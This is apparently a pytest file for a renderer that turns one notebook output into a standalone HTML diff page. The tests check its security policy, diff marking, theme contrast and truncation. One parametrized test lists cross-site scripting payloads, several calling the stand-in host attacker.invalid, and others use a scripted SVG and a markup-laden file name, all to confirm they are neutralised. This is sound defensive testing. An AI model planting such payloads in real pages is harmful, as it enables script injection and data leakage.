"""One output as a page of its own: both sides, nothing that runs, room for what is huge."""

import base64
import hashlib
import re
from html import unescape

import pytest

from recrate.report.account import Account
from recrate.report.fragment import OutputAccount, render_output
from recrate.report.marks import tones
from report_accounts import data, every_kind, judged, notebook

ACTIVE = re.compile(
    r"<(?:script|iframe|object|embed|form|a|link|base|svg:|math)\b|\son\w+=|javascript:|style=",
    re.IGNORECASE,
)


def one(account: Account, cell: int, output: int = 0) -> OutputAccount:
    """Return what the page of one output of the first notebook is made from."""
    judged_notebook = account.verdict.notebooks[0]
    path = judged_notebook.path
    at = next(found for found in judged_notebook.cells if found.index == cell)
    return OutputAccount(
        notebook=judged_notebook,
        cell=at,
        output=next(found for found in at.outputs if found.index == output),
        recorded=account.recorded[path],
        reruns=tuple(rerun.get(path) for rerun in account.reruns),
        difference=account.pictures.get((path, cell, output)),
    )


def of_html(recorded: str, rerun: str) -> OutputAccount:
    """Return the account of one HTML output."""
    verdict = judged("a.ipynb", [(0, 0, "different", "text/html")])
    cell = verdict.cells[0]
    return OutputAccount(
        notebook=verdict,
        cell=cell,
        output=cell.outputs[0],
        recorded=notebook([data(text_html=recorded)]),
        reruns=(notebook([data(text_html=rerun)]),),
    )


def body_of(page: str) -> str:
    """Return what stands behind the head, without our own signs."""
    return re.sub(r"(?s)<svg.*?</svg>", "", page.partition("<body>")[2])


@pytest.mark.parametrize("theme", ["light", "dark", "contrast"])
@pytest.mark.parametrize("language", ["en", "ja"])
def test_the_page_admits_its_own_style_and_nothing_else(theme, language):
    page = render_output(one(every_kind(), 2), theme=theme, language=language)
    policy = unescape(re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1])
    style = re.search(r"(?s)<style>(.*?)</style>", page)[1]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy == (
        f"default-src 'none'; img-src data:; style-src 'sha256-{digest}'; "
        "base-uri 'none'; form-action 'none'"
    )
    assert page.index("Content-Security-Policy") < page.index("<style>")
    assert "<script" not in page
    assert not ACTIVE.search(body_of(page))
    assert f'<html lang="{language}">' in page


def test_text_tables_and_pictures_stand_side_by_side_with_what_differs_marked():
    text, table, picture = (
        render_output(one(every_kind(), cell), theme="light", language="en") for cell in range(3)
    )
    assert "<del>1.25</del>" in text
    assert "<ins>1.75</ins>" in text
    assert '<td class="changed"><del>2.50</del></td>' in table
    assert '<td class="changed"><ins>3.75</ins></td>' in table
    assert picture.count('src="data:image/png;base64,') == 3


def test_what_only_one_side_has_is_shown_with_a_sentence():
    missing = render_output(one(every_kind(), 4), theme="light", language="en")
    assert "The rerun gave nothing here." in missing
    assert "gone" in missing
    added = render_output(one(every_kind(), 5, 2), theme="light", language="ja")
    assert "ここには記録された出力がありません。" in added
    assert "new here" in added


def test_a_picture_is_named_in_the_language_of_the_page():
    japanese = render_output(one(every_kind(), 2), theme="light", language="ja")
    assert 'alt="記録された図"' in japanese
    assert "data-alt" not in japanese


def test_each_theme_has_its_own_ground():
    pages = {
        theme: render_output(one(every_kind(), 0), theme=theme, language="en")
        for theme in ("light", "dark", "contrast")
    }
    grounds = {re.search(r"--ground:(#\w+)", page)[1] for page in pages.values()}
    assert grounds == {"#fff", "#111", "#000"}
    assert "color-scheme:dark" in pages["contrast"]


def luminance(colour: str) -> float:
    """Return the relative luminance of `#rrggbb`. Source: WCAG 2.2, relative luminance."""
    parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
    linear = [
        part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts
    ]
    return sum(share * part for share, part in zip((0.2126, 0.7152, 0.0722), linear, strict=True))


@pytest.mark.parametrize(
    ("dark", "contrast", "least"),
    [(False, False, 4.5), (True, False, 4.5), (False, True, 7), (True, True, 7)],
)
def test_every_verdict_can_be_read_on_its_ground(dark, contrast, least):
    ground = (0.0 if contrast else luminance("#111111")) if dark else 1.0
    for colour in re.findall(r"#\w{6}", tones(dark=dark, contrast=contrast)):
        light, deep = sorted((luminance(colour), ground), reverse=True)
        assert (light + 0.05) / (deep + 0.05) >= least, colour


@pytest.mark.parametrize(
    "payload",
    [
        "<script>HIT</script>",
        "<svg><script>HIT</script></svg>",
        "<svg onload=HIT></svg>",
        "<a href='javascript:HIT'>click</a>",
        "<meta http-equiv=refresh content='0;url=http://attacker.invalid'>",
        "<p style='background:url(http://attacker.invalid/c)'>x</p>",
        "<style>*{background:url(http://attacker.invalid)}</style>",
        "<img src='http://attacker.invalid/x.png' onerror=HIT>",
        "<iframe srcdoc='<script>HIT</script>'></iframe>",
        "<form action='http://attacker.invalid'><input autofocus onfocus=HIT></form>",
        "</main></body><script>HIT</script>",
        "<link rel=stylesheet href='http://attacker.invalid/e'><base href='//attacker.invalid'>",
    ],
)
def test_a_hostile_output_leaves_nothing_active(payload):
    html = f"<table><tr><td>1</td></tr></table>{payload}"
    page = render_output(of_html(html, html.replace("1", "2")), theme="light", language="en")
    assert not ACTIVE.search(body_of(page))
    assert "attacker.invalid" not in page
    assert "<td" in page


def test_a_hostile_drawing_stays_inside_an_image():
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>HIT</script>{}</svg>"
    verdict = judged("a.ipynb", [(0, 0, "different", "image/svg+xml")])
    sides = [notebook([{"data": {"image/svg+xml": svg.format(number)}}]) for number in (1, 2)]
    account = OutputAccount(
        notebook=verdict,
        cell=verdict.cells[0],
        output=verdict.cells[0].outputs[0],
        recorded=sides[0],
        reruns=(sides[1],),
    )
    page = render_output(account, theme="light", language="en")
    assert page.count('src="data:image/svg+xml;base64,') == 2
    assert "HIT" not in page


def test_a_path_with_markup_in_it_is_text():
    account = one(every_kind(), 0)
    hostile = judged("</title><script>HIT</script>.ipynb", [(0, 0, "different", "text/plain")])
    account = OutputAccount(
        notebook=hostile,
        cell=hostile.cells[0],
        output=hostile.cells[0].outputs[0],
        recorded=account.recorded,
        reruns=account.reruns,
    )
    assert "<script" not in render_output(account, theme="light", language="en")


def test_a_table_of_a_hundred_thousand_rows_is_cut_with_a_sentence():
    def table(step: int) -> str:
        rows = (
            f"<tr><td>{row + step * (row % 7 == 3)}</td><td>b</td></tr>" for row in range(10**5)
        )
        return f"<table>{''.join(rows)}</table>"

    recorded = table(0)
    page = render_output(of_html(recorded, table(1)), theme="light", language="en")
    assert f"Cut here; {len(recorded):,} characters in all" in page
    assert "of them differ" in page
    assert len(page) < 200_000
    assert "<p>&lt;/" not in page


def test_rows_that_are_folded_are_only_called_equal_when_they_are():
    rows = "".join(f"<tr><td>{{}}{row}</td></tr>" for row in range(300))
    page = render_output(
        of_html(
            f"<table>{rows.replace('{}', 'a')}</table>", f"<table>{rows.replace('{}', 'b')}</table>"
        ),
        theme="light",
        language="en",
    )
    assert re.search(r"(\d+) rows not shown, \1 of them differ", page)
    assert "equal lines" not in page


@pytest.mark.parametrize("recorded", [None, {}, {"cells": None}, {"cells": [3]}, {"cells": []}])
def test_a_malformed_notebook_gives_a_page_all_the_same(recorded):
    verdict = judged("a.ipynb", [(0, 0, "different", "text/plain")])
    account = OutputAccount(
        notebook=verdict,
        cell=verdict.cells[0],
        output=verdict.cells[0].outputs[0],
        recorded=recorded,
        reruns=(),
    )
    assert "Nothing was recorded here." in render_output(account, theme="light", language="en")
